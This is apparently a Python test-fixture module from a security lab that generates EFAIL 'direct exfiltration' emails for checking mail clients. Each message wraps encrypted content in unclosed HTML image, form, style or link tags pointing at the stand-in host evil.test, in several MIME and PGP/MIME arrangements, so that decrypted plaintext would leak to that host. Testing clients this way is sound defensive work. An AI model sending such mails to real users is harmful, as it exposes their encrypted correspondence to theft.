"""Direct exfiltration (EFAIL): stolen ciphertext between the attacker's parts, to be joined when it is read."""

from collections.abc import Iterator

from lab.attacks import forms, openpgp, ways
from lab.attacks.mail import Case, Gets, Mail
from lab.attacks.people import DOC, OWN

_IMAGE = '<img src="http://evil.test/'
_OPENINGS = {
    "image": _IMAGE,
    "form": '<form action="http://evil.test/"><textarea name="x">',
    "style": '<style>@import "http://evil.test/',
    "link": '<a href="http://evil.test/',
}


def exfiltrating() -> Iterator[Mail]:
    """Give multipart/mixed of HTML that is left open, ciphertext for doc, and HTML that closes it."""
    for way, opening in (
        ("openpgp", "image"),
        ("aes256-gcm", "image"),
        ("aes256-cbc", "image"),
        ("openpgp", "form"),
        ("aes128-cbc+stream", "style"),
        ("aes256-gcm+keyid", "link"),
    ):
        case = Case.of("direct-exfiltration", f"{way.replace('+', '-')}-{opening}")
        inner = ways.encrypted(way, case.chance, forms.text(case.secret))
        entity = forms.parts("mixed", forms.html(_OPENINGS[opening]), inner, forms.html('">'))
        yield case.mail(f"{opening}: HTML left open before ciphertext", case.letter(entity), _left(case))
    yield from _encoded()
    yield from _inside_pgp_mime()
    yield from _inline()


def _encoded() -> Iterator[Mail]:
    for name, about in (
        ("base64", "the HTML in base64"),
        ("quoted-printable", "the HTML as quoted-printable"),
        ("alternative", "in multipart/alternative within multipart/mixed"),
        ("domain-key", "the ciphertext is for the domain's key"),
    ):
        case = Case.of("direct-exfiltration", name)
        whom = OWN if name == "domain-key" else DOC
        inner = ways.encrypted("aes256-gcm", case.chance, forms.text(case.secret), whom)
        html = forms.html(_IMAGE)
        if name == "base64":
            html = forms.in_base64("text/html", _IMAGE.encode())
        elif name == "quoted-printable":
            html = forms.quoted("text/html", _IMAGE.encode())
        entity = forms.parts("mixed", html, inner, forms.html('">'))
        if name == "alternative":
            entity = forms.parts("mixed", forms.parts("alternative", html, inner, name="inner"), forms.html('">'))
        yield case.mail(about, case.letter(entity), _left(case))


def _inside_pgp_mime() -> Iterator[Mail]:
    """Give multipart/encrypted with more in it than belongs there."""
    for name, about in (
        ("preamble", "HTML before the first boundary of multipart/encrypted"),
        ("epilogue", "HTML behind its last boundary"),
        ("third-part", "HTML as its third part"),
    ):
        case = Case.of("direct-exfiltration", f"openpgp-{name}")
        armor = openpgp.encrypted(case.chance, openpgp.literal(forms.text(case.secret)), DOC).armor()
        long = (_IMAGE + "a" * 300).encode() + b"\r\n"
        html = forms.html(_IMAGE)
        entity = {
            "preamble": forms.pgp_encrypted(armor, preamble=long),
            "epilogue": forms.pgp_encrypted(armor, epilogue=long),
            "third-part": forms.pgp_encrypted(armor, html),
        }[name]
        gets = Gets(as_it_came=True, hidden=(case.secret,))
        yield case.mail(about, case.letter(entity), gets)


def _inline() -> Iterator[Mail]:
    """Give HTML and text with an armored message in it."""
    for name, kind in (("inline-html", forms.html), ("inline-text", forms.text)):
        case = Case.of("direct-exfiltration", name)
        armor = openpgp.encrypted(case.chance, openpgp.literal(case.secret.encode()), DOC).armor().decode()
        entity = kind(f'{_IMAGE}\r\n{armor}\r\n">')
        gets = Gets(as_it_came=True, hidden=(case.secret,))
        yield case.mail("an armored message amid other text", case.letter(entity), gets)


def _left(case: Case) -> Gets:
    return Gets(flags=("nested",), as_it_came=True, hidden=(case.secret,))
